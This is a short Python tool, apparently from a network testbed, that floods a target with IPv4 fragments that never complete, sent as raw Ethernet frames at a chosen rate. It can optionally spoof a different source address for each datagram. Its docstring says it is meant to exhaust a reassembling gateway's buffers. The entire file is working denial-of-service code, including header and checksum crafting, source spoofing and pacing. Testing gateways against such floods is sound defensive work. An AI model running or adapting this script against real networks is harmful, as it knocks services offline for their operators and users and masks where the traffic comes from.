#!/usr/bin/python3
"""Sends IPv4 fragments of datagrams that never complete (MF set on every piece, no last
fragment), as raw Ethernet frames, paced to a rate: what an attacker does to exhaust a
reassembling gateway's buffers (RFC 8900 §3.5). Run inside the attacker's namespace:

  fragment_flood.py IFACE DST_MAC DST_IP DATAGRAMS PIECES RATE_PPS SOURCE

SOURCE is one IPv4 address, or "many" for a different spoofed source per datagram
(100.64.0.0/10). Prints the number of frames sent.
"""

import os
import socket
import struct
import sys
import time


def checksum(header):
    s = sum(struct.unpack("!10H", header))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def fragment(src, dst, ident, piece, payload=64):
    """IPv4 fragment `piece` (64 bytes at offset piece*64) of UDP datagram `ident`, MF set."""
    flags_offset = 0x2000 | (piece * payload // 8)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload, ident, flags_offset, 64, 17, 0, src, dst)
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + bytes([piece]) * payload


def main():
    iface, dst_mac, dst_ip, datagrams, pieces, rate, source = sys.argv[1:8]
    datagrams, pieces, rate = int(datagrams), int(pieces), int(rate)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
    eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00"
    dst = socket.inet_aton(dst_ip)
    ids = int.from_bytes(os.urandom(2), "big")
    sent, start, batch = 0, time.monotonic(), max(rate // 100, 1)
    for k in range(datagrams):
        src = socket.inet_aton(f"100.{64 + (k >> 16) % 64}.{(k >> 8) & 255}.{k & 255}") if source == "many" \
            else socket.inet_aton(source)
        ident = (ids + k) & 0xFFFF
        for p in range(pieces):
            s.send(eth + fragment(src, dst, ident, p))
            sent += 1
            if sent % batch == 0:  # keep to the rate: sleep until this batch is due
                ahead = sent / rate - (time.monotonic() - start)
                if ahead > 0:
                    time.sleep(ahead)
    print(sent)


if __name__ == "__main__":
    main()
